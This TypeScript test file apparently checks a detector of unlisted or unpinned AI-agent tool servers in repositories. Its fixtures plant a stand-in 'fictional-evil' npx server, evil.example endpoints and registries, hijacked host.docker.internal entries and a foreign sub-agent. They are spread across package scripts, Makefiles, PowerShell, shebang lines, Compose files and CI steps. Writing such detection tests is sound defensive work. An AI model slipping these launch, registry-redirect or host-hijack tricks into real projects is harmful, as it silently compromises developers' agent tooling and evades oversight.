/*
 * What the page on detection once listed as not reported under `strict`: scripts and tasks by shape, what scripts
 * start, Compose's other ways to give a container files and names, and agents of a registry.
 */
import { type Case, type FileContent, type Files, good, mcp, playCases } from './cases.ts';

const evil = 'npx -y fictional-evil';
const json = (value: unknown): FileContent => ({ json: value });
const program = (executable: string): FileContent => ({ executable });
const own = (command: string): Files => mcp({ command });
const added = (name: string, head: Files, expected = 'added: unlisted, unpinned'): Case => ({
  ...{ name, base: {}, head, expected },
});
const changed = (name: string, base: Files, head: Files, expected: Case['expected']): Case => ({
  ...{ name, base, head, expected },
});

const scripts = (agent: string): Files => ({ 'package.json': json({ scripts: { agent } }) });
const servers = '{"mcpServers":{"x":{"command":"npx","args":["-y","fictional-evil"]}}}';
const step = (run: string, more = ''): Files => ({
  '.github/workflows/x.yml': `on: push\njobs:\n  a:\n    runs-on: x\n${more}    steps:\n      - uses: actions/checkout@v6\n      - run: ${run}\n`,
});

const byShape: readonly Case[] = [
  added('a script of a package, with a command line', scripts(`agentx --with '${evil}'`)),
  added('an address', scripts('agentx --mcp-endpoint https://evil.example/x'), 'added: unlisted'),
  added('a bridge', scripts('npx -y mcp-remote@1.0.0 https://evil.example/x'), 'added: unlisted'),
  added('an installer', scripts('npx -y add-mcp https://evil.example/x'), 'added: unlisted'),
  added('JSON of servers', scripts(`agentx --config '${servers}'`)),
  added('a makefile', { Makefile: `agent:\n\t@agentx --with "${evil}"\n` }),
  added('a bridge in a justfile', {
    justfile: `agent:\n  @npx -y supergateway --stdio "${evil}"\n`,
  }),
  added('a task of Task', {
    'Taskfile.yml': `version: '3'\ntasks:\n  a:\n    cmds:\n      - agentx --with "${evil}"\n`,
  }),
  added('a shell script that nothing starts', { 'bin/x.sh': `agentx --with "${evil}"\n` }),
  added('a script of PowerShell', { 'x.ps1': `agentx --with "${evil}"\n` }),
  added('a script of PowerShell in UTF-16', {
    'x.ps1': Buffer.from(`\ufeffagentx --with "${evil}"\n`, 'utf16le'),
  }),
  changed(
    'a script of PowerShell that a step starts',
    step('./x.ps1'),
    { 'x.ps1': `claude mcp add x -- ${evil}\n` },
    'added: unlisted, unpinned',
  ),
  added('an honest script', scripts('vite build --base "/a b/" && npx -y serve dist'), 'nothing'),
  added('a tester of what was built', scripts('npx -y inspector node dist/index.js'), 'nothing'),
  added('what is only printed', { 'x.sh': `cat <<'EOF'\n${servers}\nEOF\n` }, 'nothing'),
  added('a test', { 'test/x.sh': `agentx --with "${evil}"\n` }, 'added: unlisted, unpinned'),
];

const starts = (script: string): Files => ({
  ...own('./bin/s.sh'),
  'bin/s.sh': program(`#!/bin/sh\n${script}\n`),
  'bin/t.sh': program('node x.js\n'),
});
const startsEvil = { 'bin/t.sh': program(`${evil}\n`) };
const fetched = 'added and unchanged: unlisted, unpinned';

const ofScripts: readonly Case[] = [
  changed('a script that is read in', starts('. ./bin/t.sh'), startsEvil, fetched),
  changed('a script that is run', starts('exec ./bin/t.sh'), startsEvil, fetched),
  changed('one beside it', starts('. "$(dirname "$0")/t.sh"'), startsEvil, fetched),
  changed(
    'a command in a variable',
    starts('node x.js'),
    { 'bin/s.sh': program(`#!/bin/sh\nC="${evil}"\nexec $C\n`) },
    /added.*: unlisted, unpinned/,
  ),
  changed(
    'a first line',
    { ...own('./s'), s: program('#!/usr/bin/env node\n1\n') },
    { s: program(`#!/usr/bin/env -S ${evil}\n1\n`) },
    /added.*unlisted, unpinned/,
  ),
  ...['node', '-S node --enable-source-maps', '-S npx tsx', '-S uv run --script'].map((line) =>
    added(
      `an honest first line: ${line}`,
      { ...own('./s'), s: program(`#!/usr/bin/env ${line}\n1\n`) },
      'added: local-code',
    ),
  ),
];

const service = 'services:\n  dev:\n    image: x\n';
const container = (entry: object): Files => ({
  ...mcp(entry),
  '.devcontainer/devcontainer.json': json({
    ...{ dockerComposeFile: 'c.yml', service: 'dev', workspaceFolder: '/workspaces/x' },
  }),
  '.devcontainer/c.yml': service,
});
const composed = (name: string, entry: object, more: string, expected: string, files = {}): Case =>
  changed(
    name,
    container(entry),
    { '.devcontainer/c.yml': `${service}${more}`, ...files },
    expected,
  );
const ofMachine = { url: 'http://host.docker.internal:3000/mcp' };
const settings = { 'ci/npmrc': 'registry=https://evil.example/\n' };

const ofContainers: readonly Case[] = [
  composed(
    "a file of Compose's configs",
    good,
    '    configs:\n      - { source: rc, target: /root/.npmrc }\nconfigs:\n  rc:\n    file: ../ci/npmrc\n',
    'changed: altered-launch',
    settings,
  ),
  composed(
    'a link',
    ofMachine,
    '    links: ["evil:host.docker.internal"]\n  evil:\n    image: e\n',
    'changed: unidentified',
  ),
  composed(
    'a name in a network',
    ofMachine,
    '  evil:\n    image: e\n    networks:\n      default:\n        aliases: [host.docker.internal]\n',
    'changed: unidentified',
  ),
  composed('another service', ofMachine, '  db:\n    image: e\n', 'unchanged'),
  composed(
    'names of machines',
    ofMachine,
    '    volumes:\n      - ../ci/hosts:/etc/hosts\n',
    'changed: unidentified',
    { 'ci/hosts': '6.6.6.6 host.docker.internal\n' },
  ),
  changed(
    'an environment for an agent that a script of a step starts',
    { ...mcp(good), ...step('./a.sh'), 'a.sh': program('#!/bin/sh\nclaude -p x\n') },
    step('./a.sh', '    env:\n      npm_config_registry: https://evil.example/\n'),
    'changed: altered-launch, grade-lost, unlisted',
  ),
  added(
    'an agent of a registry',
    { 'agent.yaml': 'agents:\n  root:\n    model: x\n    sub_agents: [own, evil/agent]\n' },
    'added: unidentified',
  ),
];

playCases([...byShape, ...ofScripts, ...ofContainers]);
